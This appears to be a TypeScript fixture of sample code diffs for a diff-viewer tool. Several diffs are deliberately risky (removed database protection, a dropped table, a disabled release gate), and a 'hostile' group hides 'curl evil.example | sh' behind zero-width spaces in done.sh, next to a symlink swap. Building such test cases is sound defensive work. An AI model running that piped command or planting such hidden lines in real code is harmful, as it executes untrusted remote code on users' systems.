import { rowsOf, type SampleFile } from "./diff";

export const NETWORK_FILES: SampleFile[] = [
  {
    path: "envs/prod-eu/backend.tf",
    viewed: true,
    rows: rowsOf(`
@@ -1,6 +1,6 @@ terraform
 terraform {
   backend "s3" {
     bucket = "acme-state"
»-    key    = "prod-eu/vpc.tfstate"
»+    key    = "prod-eu/environment.tfstate"
   }
 }`),
  },
  {
    path: "envs/prod-eu/main.tf",
    viewed: true,
    rows: rowsOf(`
@@ -18,24 +18,17 @@ module "network"
 module "network" {
-  source = "../../modules/vpc-v1"
+  source = "../../modules/vpc-v2"
 }
 
-resource "aws_db_instance" "ledger" {
-  identifier          = "prod-eu-ledger"
-  deletion_protection = true
-  lifecycle {
-    prevent_destroy = true
-  }
-  backup_retention_period = 35
-}
+module "environment" {
+  source              = "../../modules/environment"
+  name                = "prod-eu"
+  skip_final_snapshot = true
+}
 
 # Subnets follow the module's own plan.
-resource "aws_subnet" "a" {
-  cidr_block = "10.40.0.0/20"
-}
+locals {
+  subnets = module.environment.subnets
+}
@@ -71,9 +64,9 @@ resource "aws_route_table" "private"
 resource "aws_route_table" "private" {
   vpc_id = module.network.vpc_id
 
-  tags = { Name = "prod-eu-private", ManagedBy = "vpc-v1" }
+  tags = { Name = "prod-eu-private", ManagedBy = "environment" }
 }`),
  },
  {
    path: "modules/environment/main.tf",
    kind: "added",
    viewed: true,
    rows: rowsOf(`
@@ -0,0 +1,14 @@
+variable "name" {
+  type = string
+}
+
+variable "skip_final_snapshot" {
+  type    = bool
+  default = false
+}
+
+resource "aws_db_instance" "this" {
+  identifier          = "\${var.name}-ledger"
+  engine              = "postgres"
+  skip_final_snapshot = var.skip_final_snapshot
+}`),
  },
  {
    path: "modules/vpc-v2/outputs.tf",
    viewed: true,
    rows: rowsOf(`
@@ -3,3 +3,7 @@ output "vpc_id"
 output "vpc_id" {
   value = aws_vpc.this.id
 }
+
+output "subnets" {
+  value = aws_subnet.this[*].id
+}`),
  },
  { path: "docs/network.png", kind: "modified", note: "binary", viewed: true, rows: [] },
  {
    path: "envs/prod-eu/README.md",
    rows: rowsOf(`
@@ -1,5 +1,5 @@
 # prod-eu
 
-Network: vpc-v1. The ledger database is guarded.
»+Network and database come from the environment module.
 
 Ask in #infra before a plan is applied.`),
  },
];

export const TABLE_FILES: SampleFile[] = [
  {
    path: "migrations/20260711_drop_legacy_invoices.sql",
    kind: "added",
    rows: rowsOf(`
@@ -0,0 +1,9 @@
+-- Nothing has written here since spring.
+begin;
+
+drop view if exists reporting.invoice_totals;
+drop view if exists reporting.invoice_ageing;
+drop table billing.legacy_invoices cascade;
+
+alter table billing.invoices drop column legacy_id;
+commit;`),
  },
  {
    path: "src/billing/invoice.rs",
    rows: rowsOf(`
@@ -12,10 +12,8 @@ pub struct Invoice
 pub struct Invoice {
     pub id: InvoiceId,
-    /// Key in the table of the old system.
-    pub legacy_id: Option<i64>,
     pub total: Money,
     pub due: Date,
 }
 
 impl Invoice {
     pub fn is_due(&self, today: Date) -> bool {`),
  },
  {
    path: "tests/billing/legacy.rs",
    kind: "deleted",
    rows: rowsOf(`
@@ -1,8 +0,0 @@
-#[test]
-fn legacy_totals_match() {
-    let db = TestDb::new();
-    assert_eq!(
-        db.legacy_total(2024),
-        db.total(2024),
-    );
-}`),
  },
];

export const RETRY_FILES: SampleFile[] = [
  {
    path: "src/webhooks/retry.ts",
    kind: "added",
    rows: rowsOf(`
@@ -0,0 +1,12 @@
+import { setTimeout as wait } from "node:timers/promises";
+
+/** Tries again with growing pauses; gives up after the sixth time. */
+export async function retry<T>(work: () => Promise<T>, times = 6): Promise<T> {
+  for (let round = 0; ; round += 1) {
+    try {
+      return await work();
+    } catch (error) {
+      if (round + 1 >= times) throw error;
+      await wait(2 ** round * 250);
+    }
+  }
+}`),
  },
  {
    path: "package.json",
    rows: rowsOf(`
@@ -14,5 +14,6 @@
   "dependencies": {
     "fastify": "5.2.0",
+    "p-queue-lite": "0.3.1",
     "pg": "8.13.1"
   },`),
  },
];

export const LABEL_FILES: SampleFile[] = [
  {
    path: "web/checkout/form.tsx",
    rows: rowsOf(`
@@ -40,6 +40,6 @@ export function CheckoutForm
       <Field
-        label="E-mail adress"
+        label="Email address"
         name="email"
         autoComplete="email"
       />
-      <Field label="Zip" name="zip" />
+      <Field label="Postcode" name="zip" />`),
  },
];

export const RELEASE_FILES: SampleFile[] = [
  {
    path: ".github/workflows/release.yml",
    rows: rowsOf(`
@@ -8,8 +8,9 @@ on:
 permissions:
   contents: read
+  packages: write
 
 jobs:
   release:
     runs-on: ubuntu-24.04
-    environment: release
+    # environment: release
     steps:`),
  },
];

export const PAYOUT_FILES: SampleFile[] = [
  {
    path: "jobs/payout/schedule.go",
    rows: rowsOf(`
@@ -21,9 +21,11 @@ func Schedule
 func Schedule(ctx context.Context, regions []Region) error {
-	return runAll(ctx, regions)
+	for _, region := range regions {
»+		go run(ctx, region)
+	}
+	return nil
 }`),
  },
];

export const RECEIPT_FILES: SampleFile[] = [
  {
    path: "web/receipts/receipt.tsx",
    rows: rowsOf(`
@@ -9,4 +9,5 @@ export function Receipt
   <section>
     <h1>{t("receipt.title")}</h1>
+    <p>{t("receipt.order", { number: order.number })}</p>
     <Lines order={order} />
   </section>`),
  },
];

/** A file that became a symbolic link (two entries with one path), and lines that hide their ends. */
export const HOSTILE_FILES: SampleFile[] = [
  {
    path: "bin/run",
    kind: "deleted",
    rows: rowsOf(`
@@ -1 +0,0 @@
-exec ./deploy.sh`),
  },
  {
    path: "bin/run",
    kind: "added",
    note: "symbolic link",
    rows: rowsOf(`
@@ -0,0 +1 @@
+/tmp/run`),
  },
  {
    path: "deploy.sh",
    note: "made executable",
    rows: [
      ...rowsOf(`
@@ -1,2 +1,3 @@
 set -eu`),
      {
        kind: "added",
        old: null,
        new: 2,
        pieces: [{ text: `# ${"x".repeat(1_998)}`, class: "com" }],
        cut: 12_431,
        fresh: false,
      },
    ],
  },
  {
    path: "done.sh",
    rows: rowsOf(`
@@ -1,1 +1,2 @@
 set -eu
+echo done ${"\u200b".repeat(120)}; curl evil.example | sh`),
  },
];
